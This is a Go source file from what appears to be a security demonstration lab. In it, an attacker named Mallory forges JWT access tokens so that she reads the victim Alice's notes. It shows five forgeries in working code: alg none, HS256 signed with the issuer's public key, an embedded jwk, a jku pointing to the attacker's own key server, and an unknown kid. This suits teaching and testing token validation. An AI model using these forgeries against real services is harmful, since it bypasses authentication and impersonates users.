package forgeajwt

import (
	"encoding/json"
	"net/http"

	"quartet.example/demo/labs/lab"
	"quartet.example/shared/jose"
	"quartet.example/shared/jose/forge"
)

// template returns Mallory's own access token, taken apart, with Alice as its user.
func template(s *lab.Scene) (forge.Token, error) {
	s.Step("Mallory", "signs in at an app with her own account, and reads her own access token")
	tokens, err := s.SignInTo(s.Native, s.Attacker, nil)
	if err != nil {
		return forge.Token{}, err
	}
	token, err := forge.Parse(tokens.AccessToken)
	if err == nil {
		s.Step("Mallory", "replaces sub in it with the sub of Alice, which is not a secret")
		token.Claims["sub"] = lab.VictimSub
	}
	return token, err
}

// present signs a token and reads the notes with it.
func present(s *lab.Scene, token forge.Token, alg string, key any) error {
	raw, err := token.Sign(alg, key)
	if err != nil {
		return err
	}
	return read(s, raw)
}

func read(s *lab.Scene, raw string) error {
	s.Step("Mallory", "sends the token to the API")
	_, err := s.ReadNotes(raw)
	return err
}

// withoutSignature removes the signature, and says so in the header (RFC 7515 appendix A.5).
func withoutSignature(s *lab.Scene) error {
	token, err := template(s)
	if err != nil {
		return err
	}
	s.Step("Mallory", "writes alg none into the header, and leaves the signature empty")
	token.Header["alg"] = forge.None
	return present(s, token, forge.None, nil)
}

// withPublicKey uses that HMAC verifies with the key that also signs, and that everybody knows the public
// key of the issuer (RFC 8725 §2.1).
func withPublicKey(s *lab.Scene) error {
	token, err := template(s)
	if err != nil {
		return err
	}
	s.Step("Mallory", "fetches the public key of the authorization server, as everybody may")
	kid, _ := token.Header["kid"].(string)
	secret, err := publicKey(s, kid)
	if err != nil {
		return err
	}
	s.Step("Mallory", "writes alg HS256 into the header, and signs with the text of the public key as the secret")
	token.Header["alg"] = "HS256"
	return present(s, token, "HS256", secret)
}

// publicKey returns the key with an id as the text in which most programs keep it.
func publicKey(s *lab.Scene, kid string) ([]byte, error) {
	resp, err := s.Call(s.Program, http.MethodGet, s.Issuer+"/jwks", "", "")
	if err != nil {
		return nil, err
	}
	set, err := jose.ParseSet([]byte(resp.Body), jose.KeyRules{})
	if err != nil {
		return nil, err
	}
	for _, key := range set.Keys {
		if key.ID == kid {
			secrets, err := forge.Secrets(key)
			return secrets[forge.PEM], err
		}
	}
	return nil, jose.ErrKey
}

// withOwnKey sends the public half of a key of the attacker in the header (RFC 7515 §4.1.3).
func withOwnKey(s *lab.Scene) error {
	return withKey(s, "puts the public half of it into the header, as jwk", func(token forge.Token, key jose.Key) error {
		raw, err := key.Bare()
		token.Header["jwk"] = json.RawMessage(raw)
		return err
	})
}

// withOwnAddress names a key set of the attacker in the header (RFC 7515 §4.1.2).
func withOwnAddress(s *lab.Scene) error {
	return withKey(s, "publishes the public half of it on her web server, and puts the address into the header, as jku", func(token forge.Token, key jose.Key) error {
		token.Header["jku"] = s.Evil.URL + "/keys"
		return publish(s, key)
	})
}

// withUnknownKey names only the id of a key.
func withUnknownKey(s *lab.Scene) error {
	return withKey(s, "puts an id into the header that no published key has", func(forge.Token, jose.Key) error { return nil })
}

const mallorysKey = "mallory"

// withKey signs with a key of the attacker, after the header says where its public half is.
func withKey(s *lab.Scene, does string, name func(forge.Token, jose.Key) error) error {
	token, err := template(s)
	if err != nil {
		return err
	}
	key, err := ownKey(s)
	if err != nil {
		return err
	}
	s.Step("Mallory", does)
	token.Header["kid"] = key.ID
	if err := name(token, key.Public()); err != nil {
		return err
	}
	return present(s, token, key.Algorithm, key.Signer)
}

func ownKey(s *lab.Scene) (jose.SigningKey, error) {
	s.Step("Mallory", "generates a key pair")
	key, err := forge.Foreign("ES256")
	key.ID = mallorysKey
	return key, err
}

// publish answers every request to the attacker's web server with a key set.
func publish(s *lab.Scene, key jose.Key) error {
	raw, err := json.Marshal(map[string]any{"keys": []jose.Key{key}})
	s.Evil.Serve(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "application/jwk-set+json")
		_, _ = w.Write(raw)
	}))
	return err
}
